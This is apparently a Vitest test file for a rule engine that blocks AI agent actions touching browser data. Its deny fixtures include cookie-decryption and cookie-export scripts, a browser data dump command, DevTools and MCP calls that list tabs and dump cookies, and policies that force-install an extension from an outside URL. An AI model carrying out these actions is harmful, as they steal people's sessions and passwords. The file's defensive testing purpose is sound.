import { describe, it } from 'vitest';
import type { ToolCall } from '../../../core/schemas/tool-call.ts';
import { sharedEngine } from './helpers.ts';
import { familyAssertions, fileWrite } from './rule-assertions.ts';

/**
 * The act: a person's browser data (cookies, saved passwords, history,
 * sessions, open tabs) read, decrypted, listed or handed to a tool, or an
 * extension forced into their browser, whatever the client: a script written,
 * a dump tool, the DevTools endpoint, a browser MCP tool, a policy file.
 * Look-alikes: headless test browsers on throwaway profiles, one's own
 * extension's manifest, test fixtures, page titles.
 */
const engine = await sharedEngine();
const { each, quiet } = familyAssertions(engine);
const http = (method: string, url: string): ToolCall => ({ type: 'HttpRequest', method, url, headers: {} } as ToolCall);
const mcp = (server: string, tool: string, args: Record<string, unknown>): ToolCall => ({ type: 'McpToolCall', server, tool, arguments: args } as ToolCall);

describe('browser secrets taken', () => {
  it('code written that decrypts or exports cookies and passwords is denied', () => {
    each('content-browser-secrets-decrypted', 'deny', [
      fileWrite('/home/dev/projects/app/tools/cookie_sync.py', "import sqlite3, subprocess\npw = subprocess.check_output(['security','find-generic-password','-wa','Chrome Safe Storage']).strip()\nkey = PBKDF2(pw, b'saltysalt', 16, 1003)\n"),
      fileWrite('/home/dev/projects/app/scripts/export_sessions.py', "import browser_cookie3, json\ncj = browser_cookie3.chrome(domain_name='github.com')\njson.dump({c.name: c.value for c in cj}, open('/tmp/gh.json','w'))\n"),
    ]);
    quiet('content-browser-secrets-decrypted', [
      fileWrite('/home/dev/projects/app/e2e/auth.setup.ts', "import { test as setup } from '@playwright/test';\nsetup('login', async ({ page }) => {\n  await page.goto('http://localhost:3000/login');\n  await page.context().storageState({ path: 'e2e/.auth/user.json' });\n});\n"),
    ]);
    each('browser-secrets-dump-tool', 'deny', ['hack-browser-data -b chrome -f json --dir /tmp/out']);
    quiet('browser-secrets-dump-tool', ['npx playwright test --project=chromium']);
  });

  it("a running browser's tabs and cookies asked for are held", () => {
    each('browser-devtools-tabs-listed', 'stopped', [http('GET', 'http://127.0.0.1:9222/json/list'), http('GET', 'http://localhost:9222/json')]);
    each('browser-devtools-tabs-listed-shell', 'stopped', ['curl -s http://127.0.0.1:9222/json | jq -r ".[].webSocketDebuggerUrl"']);
    quiet('browser-devtools-tabs-listed', [http('GET', 'http://127.0.0.1:9222/json/version'), http('GET', 'http://localhost:3000/api/health')]);
    each('mcp-browser-cookies-dumped', 'stopped', [
      mcp('chrome-devtools', 'get_cookies', { urls: ['https://github.com', 'https://console.aws.amazon.com'] }),
      mcp('browser', 'save_storage_state', { path: '/tmp/state.json' }),
    ]);
    quiet('mcp-browser-cookies-dumped', [mcp('chrome-devtools', 'take_screenshot', {}), mcp('playwright', 'browser_navigate', { url: 'http://localhost:3000' })]);
  });

  it("a Chrome profile listed on Linux is held; the browser's own folder is not", () => {
    each('browser-profile-dir', 'stopped', [{ type: 'DirList', path: '/home/dev/.config/google-chrome/Default', recursive: true } as ToolCall]);
    quiet('browser-profile-dir', ['ls ~/.config/google-chrome', 'google-chrome --version']);
  });
});

describe('extensions forced in', () => {
  it('a policy that force-installs an extension from outside the store is denied', () => {
    each('browser-extension-forced-outside-store', 'deny', [
      fileWrite('/etc/opt/chrome/policies/managed/ext.json', '{\n  "ExtensionInstallForcelist": ["abcdefghijklmnopabcdefghijklmnop;https://ext-updates.cdn-helper.net/update.xml"]\n}\n'),
      'defaults write com.google.Chrome ExtensionInstallForcelist -array "abcdefghijklmnopabcdefghijklmnop;https://ext-updates.cdn-helper.net/update.xml"',
      fileWrite('/usr/lib/firefox/distribution/policies.json', '{"policies":{"ExtensionSettings":{"helper@ext":{"installation_mode":"force_installed","install_url":"https://ext-updates.cdn-helper.net/helper.xpi"}}}}'),
    ]);
    quiet('browser-extension-forced-outside-store', [
      fileWrite('/home/dev/projects/app/extension/manifest.json', '{\n  "manifest_version": 3,\n  "name": "Tab Notes",\n  "version": "1.0",\n  "permissions": ["storage", "activeTab"]\n}\n'),
    ]);
  });
});
